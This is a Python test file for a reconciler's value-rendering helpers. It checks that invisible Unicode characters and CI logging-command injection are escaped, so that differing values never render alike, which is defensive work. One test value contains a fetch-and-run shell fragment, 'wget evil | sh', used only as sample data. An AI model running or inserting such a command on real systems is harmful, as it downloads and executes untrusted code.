"""Values of fields: two that differ never look the same."""

from __future__ import annotations

from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from reconciler.base.text import harmless
from reconciler.report.values import spell, spell_both

LONG = "busybox sh -c 'echo " + "0123456789 " * 20


@pytest.mark.parametrize(
    ("one", "other", "shown"),
    [
        ("a b", "a\u00a0b", '"a\\u00a0b"'),
        ("ab", "a\u200bb", '"a\\u200bb"'),
        ("ab", "a\u202eb", '"a\\u202eb"'),
        ("ab", "a\u3164b", '"a\\u3164b"'),
        ("ab", "a\U000e0041b", '"a\\udb40\\udc41b"'),
        ("a# #vso[x]", "a##vso[x]", '"a#\\u0023vso[x]"'),
        ("\u00fc", "\u65e5", '"\u65e5"'),
    ],
)
def test_what_nobody_sees_is_escaped(one: str, other: str, shown: str) -> None:
    assert spell(other) == shown
    before, after = spell_both(one, other)
    assert after == shown
    assert harmless(before) != harmless(after)


def test_long_values_are_shown_around_their_first_difference() -> None:
    before, after = spell_both(LONG + "true'", LONG + "wget evil | sh'")
    assert before.endswith("9 true'\" (247 characters)")
    assert after.endswith("9 wget evil | sh'\" (257 characters)")
    assert before.startswith("...")
    before, after = spell_both("x" + LONG, "y" + LONG)
    assert (before[:3], after[:3]) == ('"xb', '"yb')
    assert after.endswith("... (243 characters)")


def test_a_short_value_beside_a_long_one_is_whole() -> None:
    assert spell_both("no", LONG)[0] == '"no"'
    assert spell_both(None, LONG)[0] == "(none)"


def test_all_of_a_value_is_told_when_asked() -> None:
    assert spell_both(LONG, LONG + "x", full=True) == (f'"{LONG}"', f'"{LONG}x"')


_TEXTS = st.text(alphabet='ab"\\ \u00a0\u200b#', max_size=8)


@given(_TEXTS, _TEXTS, _TEXTS, st.integers(0, 200))
def test_two_values_that_differ_look_different(head: str, one: str, other: str, more: int) -> None:
    values: list[Any] = [head + "x" * more + tail for tail in (one, other)]
    before, after = map(harmless, spell_both(*values))
    assert (before == after) == (one == other)
